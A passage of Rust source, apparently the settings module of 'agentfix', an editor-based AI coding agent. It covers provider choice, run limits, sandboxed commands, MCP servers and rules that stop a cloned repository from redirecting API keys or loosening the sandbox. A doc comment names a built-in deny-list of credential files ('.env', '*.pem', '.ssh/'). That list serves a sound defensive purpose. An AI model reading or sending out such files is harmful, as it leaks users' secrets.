//! Typed settings, where they come from, and the configuration in force.
//!
//! Precedence, lowest first:
//! 1. built-in defaults;
//! 2. `agentfix.toml` at the workspace root (project settings; it may not
//!    set `provider` or `baseUrl`, so that a cloned repository cannot send
//!    your key to a server of its choosing);
//! 3. environment variables;
//! 4. editor settings: `initializationOptions`, then the `agentfix` section
//!    pulled with `workspace/configuration` (or pushed with
//!    `workspace/didChangeConfiguration`).
//!
//! The API key only ever comes from the environment and is wrapped in
//! [`Secret`], whose `Debug` never shows it.
//!
//! Its parts:
//! typed `Settings` (JSON Schema via schemars), layering defaults <
//! agentfix.toml < env < editor, `Config` in force with sources, in
//! plain-data sections each room takes whole (`ProviderConfig` →
//! `providers::from_config`, `Limits` = `agent::Limits`, `DownstreamConfig`
//! with `DiagnosticsWait` → `Downstream::from_config`, `CommandsConfig` →
//! `run_command`, `TranscriptsConfig`), every default a named constant;
//! `Secret`; `Settings::unknown_keys`/`file_warnings` (misspelt keys named
//! with the closest setting by edit distance, a warning and never an error:
//! unknown keys stay accepted for forward compatibility; in editor settings
//! only keys close to a setting, and never the plugins' own `EDITOR_KEYS`)

use std::path::{Path, PathBuf};
use std::time::Duration;

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use serde_json::Value;

/// The default model: a current Claude Sonnet. Override with `model` or
/// `AGENTFIX_MODEL`.
pub const DEFAULT_MODEL: &str = "claude-sonnet-4-5";
pub const DEFAULT_OPENAI_MODEL: &str = "gpt-4.1";
pub const DEFAULT_ANTHROPIC_BASE_URL: &str = "https://api.anthropic.com";
pub const DEFAULT_OPENAI_BASE_URL: &str = "https://api.openai.com/v1";
pub const DEFAULT_MAX_TURNS: u32 = 40;
pub const DEFAULT_MAX_TOKENS: u64 = 2_000_000;
pub const DEFAULT_MAX_OUTPUT_TOKENS: u32 = 8192;
/// Estimated prompt tokens of one request at most (`contextBudget`).
pub const DEFAULT_CONTEXT_BUDGET: u64 = 100_000;
pub const DEFAULT_TIMEOUT_SECS: u64 = 300;
pub const DEFAULT_MAX_RETRIES: u32 = 2;
pub const DEFAULT_CONNECT_TIMEOUT_SECS: u64 = 10;
pub const DEFAULT_IDLE_TIMEOUT_SECS: u64 = 90;
/// Whether the provider's token-counting endpoint is asked (`countTokens`).
pub const DEFAULT_COUNT_TOKENS: bool = false;
/// Whether the repository's instruction files (`AGENTS.md`, …) join the
/// system prompt (`projectInstructions`).
pub const DEFAULT_PROJECT_INSTRUCTIONS: bool = true;
/// The project settings file at the workspace root.
pub const FILE_NAME: &str = "agentfix.toml";

/// A secret string: never printed by `Debug` or `Display`.
#[derive(Clone, PartialEq, Eq)]
pub struct Secret(String);

impl Secret {
    pub fn new(s: impl Into<String>) -> Self {
        Self(s.into())
    }
    /// The secret itself, for the one place that must send it.
    pub fn expose(&self) -> &str {
        &self.0
    }
}

impl std::fmt::Debug for Secret {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("Secret(<redacted>)")
    }
}

/// Which model API to talk to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum ProviderKind {
    /// The Anthropic Messages API (`ANTHROPIC_API_KEY`).
    Anthropic,
    /// OpenAI Chat Completions (`OPENAI_API_KEY`).
    Openai,
    /// Any server speaking OpenAI Chat Completions (Ollama, llama.cpp, vLLM,
    /// LM Studio): `baseUrl` required, key optional (`AGENTFIX_API_KEY`).
    OpenaiCompatible,
}

impl ProviderKind {
    pub fn name(self) -> &'static str {
        match self {
            ProviderKind::Anthropic => "anthropic",
            ProviderKind::Openai => "openai",
            ProviderKind::OpenaiCompatible => "openai-compatible",
        }
    }

    /// The environment variable that holds this provider's key.
    pub fn key_var(self) -> &'static str {
        match self {
            ProviderKind::Anthropic => "ANTHROPIC_API_KEY",
            ProviderKind::Openai => "OPENAI_API_KEY",
            ProviderKind::OpenaiCompatible => "AGENTFIX_API_KEY",
        }
    }

    pub fn key_required(self) -> bool {
        !matches!(self, ProviderKind::OpenaiCompatible)
    }

    fn base_url_var(self) -> &'static str {
        match self {
            ProviderKind::Anthropic => "ANTHROPIC_BASE_URL",
            ProviderKind::Openai | ProviderKind::OpenaiCompatible => "OPENAI_BASE_URL",
        }
    }

    fn default_base_url(self) -> Option<&'static str> {
        match self {
            ProviderKind::Anthropic => Some(DEFAULT_ANTHROPIC_BASE_URL),
            ProviderKind::Openai => Some(DEFAULT_OPENAI_BASE_URL),
            ProviderKind::OpenaiCompatible => None,
        }
    }

    fn default_model(self) -> &'static str {
        match self {
            ProviderKind::Anthropic => DEFAULT_MODEL,
            ProviderKind::Openai | ProviderKind::OpenaiCompatible => DEFAULT_OPENAI_MODEL,
        }
    }
}

/// What to do with the edits of a run that a limit stopped.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum PartialEdits {
    /// Offer them for review, labelled as stopped early.
    #[default]
    Offer,
    /// Drop them.
    Discard,
}

impl PartialEdits {
    /// The setting's value as agentfix.toml and the editor spell it.
    pub fn name(self) -> &'static str {
        match self {
            PartialEdits::Offer => "offer",
            PartialEdits::Discard => "discard",
        }
    }
}

/// When the loop removes older tool outputs from the context.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum ContextEditing {
    /// As soon as carrying them has cost what rewriting the prompt cache
    /// costs, and near the context budget.
    #[default]
    Economy,
    /// Only near the context budget: more context stays whole, for more
    /// tokens.
    Budget,
}

impl ContextEditing {
    /// The setting's value as agentfix.toml and the editor spell it.
    pub fn name(self) -> &'static str {
        match self {
            ContextEditing::Economy => "economy",
            ContextEditing::Budget => "budget",
        }
    }
}

/// How hard the model thinks before it answers (`effort`), where the model
/// can be told: Anthropic's extended thinking budget, OpenAI's
/// `reasoning_effort`. Unset (the default), requests carry neither.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "lowercase")]
pub enum Effort {
    /// A little thinking: lint fixes, obvious errors.
    Low,
    /// Some thinking.
    Medium,
    /// The most: hard bugs.
    High,
}

impl Effort {
    /// The setting's value (`low`, `medium`, `high`), also OpenAI's
    /// `reasoning_effort`.
    pub fn name(self) -> &'static str {
        match self {
            Effort::Low => "low",
            Effort::Medium => "medium",
            Effort::High => "high",
        }
    }
}

/// One entry of the `languageServers` setting.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "camelCase")]
pub struct ServerConfig {
    /// The command and its arguments, e.g. `["pyright-langserver", "--stdio"]`; `[]` turns the language off.
    pub command: Vec<String>,
    /// `initializationOptions` sent to the server.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub initialization_options: Option<Value>,
    /// The answer to the server's `workspace/configuration` requests.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub settings: Option<Value>,
    /// Files or directories that mark a project root, e.g. `["pyproject.toml"]`.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub root_markers: Vec<String>,
}

/// One entry of the `commands` setting: an argv, an argv with a timeout, or
/// (for the `autoApprove` and `network` keys only) a flag, or (for the
/// `sandbox` key only) a word.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
#[serde(untagged)]
pub enum CommandEntry {
    /// `"autoApprove": true` runs configured commands without asking; `"network": true` lets them reach the network.
    Flag(bool),
    /// `"sandbox": "on"` (the default; `"landlock"` is the same) or `"off"`.
    Word(String),
    /// `["cargo", "test", "-q"]`.
    Argv(Vec<String>),
    /// `{"command": ["cargo", "test"], "timeoutSecs": 600}`.
    Full {
        command: Vec<String>,
        #[serde(rename = "timeoutSecs", default, skip_serializing_if = "Option::is_none")]
        timeout_secs: Option<u64>,
    },
    /// `"limits": {"addressSpaceMb": 16384, "processes": 4096, "fileSizeMb": 8192, "cpuSecs": 3600, "openFiles": 8192}`:
    /// resource limits of each sandboxed process (0 leaves one as it is).
    Limits(CommandLimits),
}

/// The `commands.limits` setting; a limit not given keeps its default.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct CommandLimits {
    /// Address space of each process, in MiB (default 16384).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub address_space_mb: Option<u64>,
    /// Processes and threads of the sandbox (default 4096; the kernel does not apply it to root).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub processes: Option<u64>,
    /// Largest file a process may write, in MiB (default 8192).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub file_size_mb: Option<u64>,
    /// CPU time of each process, in seconds (default 3600).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub cpu_secs: Option<u64>,
    /// Open files of each process (default 8192).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub open_files: Option<u64>,
}

/// A command the model may run through `run_command`, resolved.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandConfig {
    pub argv: Vec<String>,
    pub timeout: Duration,
}

/// Default timeout of a configured command.
pub const DEFAULT_COMMAND_TIMEOUT_SECS: u64 = 300;

/// The `commands.sandbox` setting: how configured commands are confined.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum CommandSandbox {
    /// The sandbox (Linux: namespaces, seccomp, Landlock): the command sees
    /// the system and its toolchains read-only, writes only in the scratch
    /// copy, its temporary directory and the build cache; no network unless
    /// `commands.network`.
    #[default]
    On,
    /// No sandbox: commands can do whatever the user can.
    Off,
}

/// agentfix settings, as the editor (camelCase JSON) or `agentfix.toml`
/// gives them. Every field is optional; unknown fields are ignored.
#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq, JsonSchema)]
#[serde(rename_all = "camelCase", default)]
#[schemars(title = "agentfix settings")]
pub struct Settings {
    /// Model API: `anthropic` (default), `openai`, or `openai-compatible` (Ollama, llama.cpp, vLLM, LM Studio).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub provider: Option<ProviderKind>,
    /// Model id (default: a current Claude Sonnet for anthropic, gpt-4.1 for openai).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub model: Option<String>,
    /// How hard the model thinks before it answers: `low`, `medium` or `high`; unset by default (no thinking asked for). Anthropic: an extended thinking budget of 2048, 8192 or 24576 tokens on top of `maxOutputTokens`, for the models that have it (`claude-sonnet-4*`, `claude-opus-4*`, `claude-haiku-4-5`, `claude-3-7-sonnet`; ignored for others, with a warning). OpenAI: `reasoning_effort` for reasoning models (o1, o3, o4-mini, gpt-5*; ignored for others such as gpt-4.1 and gpt-4o, with a warning). OpenAI-compatible servers: sent as `reasoning_effort`, which a server that does not know it ignores. Thinking tokens are billed as output tokens.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub effort: Option<Effort>,
    /// API base URL. Anthropic: without `/v1`; OpenAI and compatible servers: with `/v1`. Required for openai-compatible. Not allowed in agentfix.toml.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub base_url: Option<String>,
    /// Model requests per run at most (default 40).
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(range(min = 1))]
    pub max_turns: Option<u32>,
    /// Billed-equivalent tokens per run at most (default 2000000): input and output at 1, cache reads at 0.1, cache writes at 1.25. A hard bound: a request that could pass it is not sent, the last ones ask for no more output than is left, and the closing summary is skipped when it would not fit.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub max_tokens: Option<u64>,
    /// `max_tokens` of each model request (default 8192).
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(range(min = 1))]
    pub max_output_tokens: Option<u32>,
    /// Prompt tokens of one model request at most, estimated before it is sent (default 100000; never above the known window of the model). Past about 80 % of it, the outputs of older tool calls are replaced by a one-line stub (see `contextEditing`), then older turns are summarised by the model; a request that would still not fit is not sent and the run stops with `context_budget`.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(range(min = 1))]
    pub context_budget: Option<u64>,
    /// When the outputs of older tool calls are replaced by a one-line stub: `economy` (default) as soon as carrying them has cost what rewriting the prompt cache costs, keeping the newest whole (up to three, within 8,000 tokens), and near `contextBudget`; `budget` only near `contextBudget`.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub context_editing: Option<ContextEditing>,
    /// US dollars per run at most, at the model's price (see `prices`); unset by default. A hard bound like `maxTokens`: a request that could pass it is not sent, and the run stops with `cost_budget`. Needs a known price for the model.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(range(min = 0.0))]
    pub max_cost_usd: Option<f64>,
    /// Wall-clock limit of a run in seconds (default 300).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub timeout_secs: Option<u64>,
    /// Retries of a failed model request (default 2).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub max_retries: Option<u32>,
    /// Connection timeout of a model request in seconds (default 10).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub connect_timeout_secs: Option<u64>,
    /// Longest silence of a streaming response in seconds before it counts as stalled (default 90).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub idle_timeout_secs: Option<u64>,
    /// Anthropic only: count the prompt of each model request exactly with the API's free `count_tokens` endpoint (one extra request per model request, nothing generated), which makes the context budget exact instead of estimated (default false).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub count_tokens: Option<bool>,
    /// Edits of a run that a limit stopped: `offer` them for review (default) or `discard` them.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub partial_edits: Option<PartialEdits>,
    /// Directory for run transcripts (default: the user cache directory, agentfix/transcripts).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub transcript_dir: Option<PathBuf>,
    /// Write a JSONL transcript of every run (default true).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub transcripts: Option<bool>,
    /// Language servers by language id (`python`, `rust`, `typescript`, `c`, `go`, …). Unset languages use the defaults found on PATH. Not allowed in agentfix.toml.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub language_servers: Option<std::collections::BTreeMap<String, ServerConfig>>,
    /// Commands the model may run with `run_command`, by name: `{"test": ["cargo", "test", "-q"], "lint": {"command": ["ruff", "check", "."], "timeoutSecs": 60}, "autoApprove": false}`. They run in a scratch copy of the workspace with the run's edits applied; the user is asked before the first run of each (Allow once / Always in this workspace / Deny) unless `autoApprove` is true. On Linux they run in a sandbox (user, mount, PID, IPC, UTS and network namespaces, seccomp, Landlock): they see the system and their toolchains read-only, write only in the copy, a private temporary directory and the build cache, see no other file of yours, and reach no network; `"sandbox": "off"` turns the sandbox off (where the system cannot provide it, commands are refused until you do), `"network": true` keeps the host's network, `"readPaths": ["/data/models"]` lets them read more directories, `"limits": {"addressSpaceMb": 16384, "processes": 4096, "fileSizeMb": 8192, "cpuSecs": 3600, "openFiles": 8192}` sets resource limits. `autoApprove`, `sandbox`, `network`, `readPaths` and `limits` are not allowed in agentfix.toml.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub commands: Option<std::collections::BTreeMap<String, CommandEntry>>,
    /// Start the default language servers found on PATH for languages not in `languageServers` (default true).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub default_language_servers: Option<bool>,
    /// Quiet time in milliseconds after a language server's last diagnostics before they count as settled (default 300).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub diagnostics_settle_ms: Option<u64>,
    /// Longest wait in milliseconds for a language server's diagnostics after an edit (default 5000).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub diagnostics_timeout_ms: Option<u64>,
    /// Longest wait in milliseconds for a language server's answer to one query (default 20000); a server that does not answer is restarted once.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub language_server_timeout_ms: Option<u64>,
    /// More protected files, as gitignore-style patterns (`secrets/`, `*.sqlite`), added to the built-in deny-list (`.env`, `*.pem`, `.ssh/`, …), which cannot be removed. The model can never read, list, search or edit a protected file. agentfix.toml may add patterns too.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub exclude: Option<Vec<String>>,
    /// Environment variables (exact names or `*` patterns: `NPM_TOKEN`, `MY_*`) that children get although agentfix would keep them back: commands and MCP servers get only a built-in list of variables that carry no secret (PATH, HOME, the locale, the toolchains') plus these; language servers get the environment without credential-shaped variables, unless named here. The provider keys never. Not allowed in agentfix.toml.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub env_allow: Option<Vec<String>>,
    /// List prices in US dollars per million tokens, by model id prefix (the longest match wins): `{"my-model": {"input": 1.0, "output": 4.0, "cacheRead": 0.1, "cacheWrite": 1.25}}`. Adds to or overrides the built-in prices of current Anthropic and OpenAI models; a model with no price shows tokens only.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub prices: Option<std::collections::BTreeMap<String, crate::pricing::Price>>,
    /// Put the repository's instructions for coding agents in the system prompt (default true): `AGENTS.md` and `CLAUDE.md` at the workspace root and in every folder down to the file being fixed (nearest last), `.github/copilot-instructions.md`, and the `.cursor/rules` that apply to the file; at most 16 KB of each and 32 KB in all, read through the same confinement as the tools (protected files are never read). The model follows them unless they conflict with the user's request. agentfix.toml may set it too (the repository's own choice).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub project_instructions: Option<bool>,
    /// The size of one tool result at most, in bytes, by tool name (default 102400 for every tool): `{"read_file": 20000, "run_command": 8000}`. A longer result is cut at a line break with a note telling the model how to ask for the rest. Lower limits keep long fixes cheaper.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub tool_output_limits: Option<std::collections::BTreeMap<String, usize>>,
    /// MCP tool servers, by name, in the shape other agents use: `{"github": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"], "env": {"GITHUB_TOKEN": "…"}, "autoApprove": ["search_issues"], "timeoutSecs": 60}}`. Stdio servers only (entries without `command` are skipped). Their tools are offered to the model as `mcp__<server>__<tool>`; tools marked read-only (`readOnlyHint`) run without asking, the others ask first unless named in `autoApprove`. Servers start at the first run that needs them, get the environment without credentials plus their own `env`, and stop when agentfix exits. Not allowed in agentfix.toml.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub mcp_servers: Option<std::collections::BTreeMap<String, McpServerSettings>>,
}

/// One MCP server in `mcpServers`.
#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq, Eq, JsonSchema)]
#[serde(rename_all = "camelCase", default)]
pub struct McpServerSettings {
    /// The program that runs the server over stdio.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub command: Option<String>,
    /// Its arguments.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub args: Vec<String>,
    /// Variables added to its environment (after credentials are removed from agentfix's own).
    #[serde(skip_serializing_if = "std::collections::BTreeMap::is_empty")]
    pub env: std::collections::BTreeMap<String, String>,
    /// Tools of this server (their names on the server, not `mcp__…`) that run without asking.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub auto_approve: Vec<String>,
    /// Longest wait in seconds for one tool call (default 60), and for the server to start and list its tools (at least 10).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub timeout_secs: Option<u64>,
}

impl Settings {
    /// Reads settings from a JSON value; `{ "agentfix": {…} }` is unwrapped.
    /// A malformed value is an error that names the field.
    pub fn from_json(v: &Value) -> Result<Self, ConfigError> {
        if v.is_null() {
            return Ok(Self::default());
        }
        let v = v.get("agentfix").unwrap_or(v);
        if v.is_null() {
            return Ok(Self::default());
        }
        serde_json::from_value(v.clone()).map_err(|e| ConfigError::Invalid(format!("invalid agentfix settings: {e}")))
    }

    /// Reads `agentfix.toml` text. `provider` and `baseUrl` are refused.
    pub fn from_toml(text: &str) -> Result<Self, ConfigError> {
        let s: Settings =
            toml::from_str(text).map_err(|e| ConfigError::Invalid(format!("invalid {FILE_NAME}: {e}")))?;
        if s.base_url.is_some() || s.provider.is_some() {
            return Err(ConfigError::Invalid(format!(
                "{FILE_NAME} may not set `provider` or `baseUrl` (a repository must not choose where your API key is sent); set them in the editor or the environment"
            )));
        }
        if s.commands.as_ref().is_some_and(|c| c.contains_key("autoApprove")) {
            return Err(ConfigError::Invalid(format!(
                "{FILE_NAME} may not set `commands.autoApprove` (a repository must not approve its own commands); set it in the editor settings"
            )));
        }
        for key in ["sandbox", "network", "readPaths", "limits"] {
            if s.commands.as_ref().is_some_and(|c| c.contains_key(key)) {
                return Err(ConfigError::Invalid(format!(
                    "{FILE_NAME} may not set `commands.{key}` (a repository must not loosen the sandbox of its own commands); set it in the editor settings"
                )));
            }
        }
        if s.env_allow.is_some() {
            return Err(ConfigError::Invalid(format!(
                "{FILE_NAME} may not set `envAllow` (a repository must not choose which of your credentials its commands see); set it in the editor settings"
            )));
        }
        if s.language_servers.is_some() {
            return Err(ConfigError::Invalid(format!(
                "{FILE_NAME} may not set `languageServers` (a repository must not choose what programs agentfix runs); set them in the editor settings"
            )));
        }
        if s.mcp_servers.is_some() {
            return Err(ConfigError::Invalid(format!(
                "{FILE_NAME} may not set `mcpServers` (a repository must not choose what programs agentfix runs or what tools the model gets); set them in the editor settings"
            )));
        }
        Ok(s)
    }

    /// The keys that are settings (camelCase), from the schema.
    pub fn known_keys() -> Vec<String> {
        let schema = Self::json_schema();
        schema["properties"].as_object().map(|p| p.keys().cloned().collect()).unwrap_or_default()
    }

    /// Warnings about the keys of `v` (an object; `{ "agentfix": {…} }` is
    /// unwrapped) that are not settings, each naming the key and the known
    /// one closest to it. Unknown keys stay accepted (editors keep their own
    /// keys in the same section, and newer settings must not break older
    /// servers), so this warns and never refuses. With `editor`, only keys
    /// close to a known one, and not one of [`EDITOR_KEYS`], are named: the
    /// others are the editor's own. Without it (agentfix.toml,
    /// which is agentfix's alone) every unknown key is.
    pub fn unknown_keys(v: &Value, editor: bool) -> Vec<String> {
        let v = v.get("agentfix").unwrap_or(v);
        let Some(map) = v.as_object() else { return Vec::new() };
        let known = Self::known_keys();
        let mut out = Vec::new();
        let editors_own = |k: &str| editor && EDITOR_KEYS.contains(&k);
        for key in map.keys().filter(|k| !known.contains(k) && !editors_own(k)) {
            match closest_key(key, &known) {
                Some(near) => out.push(format!("unknown key `{key}` (did you mean `{near}`?); it is ignored")),
                None if !editor => out.push(format!(
                    "unknown key `{key}` (no setting has a name like it: see `agentfix schema`); it is ignored"
                )),
                None => {}
            }
        }
        out
    }

    /// Warnings about `root`'s agentfix.toml: its unknown keys (see
    /// [`Settings::unknown_keys`]), each starting with the file's name.
    /// None when the file is missing or unreadable (loading it says why).
    pub fn file_warnings(root: &Path) -> Vec<String> {
        let Ok(text) = std::fs::read_to_string(root.join(FILE_NAME)) else { return Vec::new() };
        let Ok(table) = toml::from_str::<toml::Table>(&text) else { return Vec::new() };
        let value = serde_json::to_value(table).unwrap_or_default();
        Self::unknown_keys(&value, false).into_iter().map(|w| format!("{FILE_NAME}: {w}")).collect()
    }

    /// `agentfix.toml` in `root`, if present.
    pub fn load_file(root: &Path) -> Result<Option<Self>, ConfigError> {
        let path = root.join(FILE_NAME);
        match std::fs::read_to_string(&path) {
            Ok(text) => Self::from_toml(&text).map(Some),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
            Err(e) => Err(ConfigError::Invalid(format!("cannot read {}: {e}", path.display()))),
        }
    }

    /// `other` wins where it has a value.
    pub fn merged(&self, other: &Settings) -> Settings {
        let mut base = serde_json::to_value(self).unwrap_or_default();
        if let (Some(b), Value::Object(o)) = (base.as_object_mut(), serde_json::to_value(other).unwrap_or_default()) {
            for (k, v) in o {
                if !v.is_null() {
                    b.insert(k, v);
                }
            }
        }
        serde_json::from_value(base).unwrap_or_default()
    }

    /// The JSON Schema of the settings (committed as `agentfix.schema.json`).
    pub fn json_schema() -> Value {
        serde_json::to_value(schemars::schema_for!(Settings)).unwrap_or_default()
    }
}

/// Keys the editor plugins here keep in the `agentfix` section for
/// themselves (VS Code's `agentfix.serverPath`, `agentfix.models`,
/// `agentfix.trace.server`): never warned about in editor settings.
const EDITOR_KEYS: &[&str] = &["serverPath", "models", "trace"];

/// The known key a misspelt `key` most likely meant: the same letters but
/// for case, `_` and `-` (`max_turns`), a prefix of one (`timeout` for
/// `timeoutSecs`), or within a few edits (`maxTurn`, `contextEdting`).
fn closest_key<'a>(key: &str, known: &'a [String]) -> Option<&'a str> {
    let plain = |s: &str| s.chars().filter(|c| *c != '_' && *c != '-').collect::<String>().to_lowercase();
    let wanted = plain(key);
    if wanted.is_empty() {
        return None;
    }
    let limit = (wanted.chars().count() / 4).max(2);
    known
        .iter()
        .map(|k| {
            let candidate = plain(k);
            let edits = edit_distance(&wanted, &candidate);
            // A prefix counts as one edit; among equals, the fewest real edits.
            let prefix = candidate.starts_with(&wanted) && wanted.len() >= 4;
            (if prefix { edits.min(1) } else { edits }, edits, k)
        })
        .filter(|(d, _, _)| *d <= limit)
        .min_by_key(|(d, edits, _)| (*d, *edits))
        .map(|(_, _, k)| k.as_str())
}

/// Levenshtein distance in characters.
fn edit_distance(a: &str, b: &str) -> usize {
    let b: Vec<char> = b.chars().collect();
    let mut row: Vec<usize> = (0..=b.len()).collect();
    for (i, ca) in a.chars().enumerate() {
        let mut diagonal = row[0];
        row[0] = i + 1;
        for (j, cb) in b.iter().enumerate() {
            let above = row[j + 1];
            row[j + 1] = (above + 1).min(row[j] + 1).min(diagonal + usize::from(ca != *cb));
            diagonal = above;
        }
    }
    row[b.len()]
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ConfigError {
    #[error(
        "{var} is not set: agentfix needs an API key for the {provider} provider. Set {var} in the environment the editor starts agentfix in (or in your shell for `agentfix fix`). Without a key: `agentfix demo` runs a whole fix with a scripted model; a local server needs none (AGENTFIX_PROVIDER=openai-compatible OPENAI_BASE_URL=http://127.0.0.1:8080/v1); OpenAI takes OPENAI_API_KEY with AGENTFIX_PROVIDER=openai."
    )]
    MissingKey { var: &'static str, provider: &'static str },
    #[error("{0}")]
    Invalid(String),
}

/// Where a resolved value came from (for `agentfix check`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Source {
    Default,
    File,
    Env,
    Editor,
}

impl Source {
    pub fn describe(self) -> &'static str {
        match self {
            Source::Default => "default",
            Source::File => FILE_NAME,
            Source::Env => "environment",
            Source::Editor => "editor settings",
        }
    }
}

/// Default `languageServerTimeoutMs`: the longest wait for one answer of a
/// language server.
pub const DEFAULT_LANGUAGE_SERVER_TIMEOUT_MS: u64 = 20_000;
/// Default `diagnosticsSettleMs`: quiet time after the last publication.
pub const DEFAULT_DIAGNOSTICS_SETTLE_MS: u64 = 300;
/// Default `diagnosticsTimeoutMs`: the longest wait for diagnostics.
pub const DEFAULT_DIAGNOSTICS_TIMEOUT_MS: u64 = 5000;

/// The configuration in force for a run, in sections: each room takes only
/// its own (`providers` the provider, the loop the limits, `downstream` its
/// section, `run_command` the commands, `transcript` the transcripts).
#[derive(Debug, Clone, PartialEq)]
pub struct Config {
    pub provider: ProviderConfig,
    pub limits: Limits,
    /// What to do with the edits of a run a limit stopped.
    pub partial_edits: PartialEdits,
    pub downstream: DownstreamConfig,
    pub commands: CommandsConfig,
    pub transcripts: TranscriptsConfig,
    pub pricing: PricingConfig,
    pub tools: ToolsConfig,
    pub mcp: McpConfig,
    /// Whether the project's instruction files join the system prompt
    /// (`projectInstructions`).
    pub project_instructions: bool,
    /// Patterns of protected files beyond the built-in deny-list: the
    /// project's and the editor's together (a layer adds, never removes).
    pub exclude: Vec<String>,
    /// Where each setting came from, by camelCase name.
    pub sources: Vec<(&'static str, Source)>,
}

/// The model API: which, where, with which key, how patiently.
#[derive(Debug, Clone, PartialEq)]
pub struct ProviderConfig {
    pub kind: ProviderKind,
    pub model: String,
    pub base_url: String,
    pub api_key: Option<Secret>,
    pub max_retries: u32,
    pub connect_timeout: Duration,
    pub idle_timeout: Duration,
    /// Ask the provider's token-counting endpoint, where it has one
    /// (`countTokens`; Anthropic only).
    pub count_tokens: bool,
    /// How hard the model thinks (`effort`): `None` asks for nothing, and
    /// the requests are what they were without the setting.
    pub effort: Option<Effort>,
}

impl ProviderConfig {
    /// The API key, or the error that tells the user how to set it.
    pub fn require_api_key(&self) -> Result<Option<Secret>, ConfigError> {
        let p = self;
        match (&p.api_key, p.kind.key_required()) {
            (Some(k), _) => Ok(Some(k.clone())),
            (None, false) => Ok(None),
            (None, true) => Err(ConfigError::MissingKey { var: p.kind.key_var(), provider: p.kind.name() }),
        }
    }
}

/// The limits of one run.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Limits {
    /// Model requests at most.
    pub max_turns: u32,
    /// Input + output tokens over the whole run at most.
    pub max_tokens: u64,
    /// `max_tokens` of each request.
    pub max_output_tokens: u32,
    /// Estimated prompt tokens of each request at most.
    pub context_budget: u64,
    /// When older tool outputs are stubbed (`contextEditing`).
    pub context_editing: ContextEditing,
    /// Wall-clock time of the run.
    pub timeout: Duration,
    /// `maxCostUsd`, with the price it is reckoned at.
    pub max_cost: Option<CostLimit>,
}

/// A money budget: `usd` at most, at the configured model's `price`.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct CostLimit {
    pub usd: f64,
    pub price: crate::pricing::Price,
}

/// The downstream language servers.
#[derive(Debug, Clone, PartialEq)]
pub struct DownstreamConfig {
    /// Configured servers by language id.
    pub servers: std::collections::HashMap<String, ServerConfig>,
    /// Whether defaults on PATH are used for other languages.
    pub defaults: bool,
    pub wait: DiagnosticsWait,
    /// Credential variables the servers may inherit (`envAllow`).
    pub env_allow: Vec<String>,
}

/// Timing of the waits on language servers.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DiagnosticsWait {
    /// Quiet time after the last publication of diagnostics.
    pub settle: Duration,
    /// The longest wait for diagnostics.
    pub max: Duration,
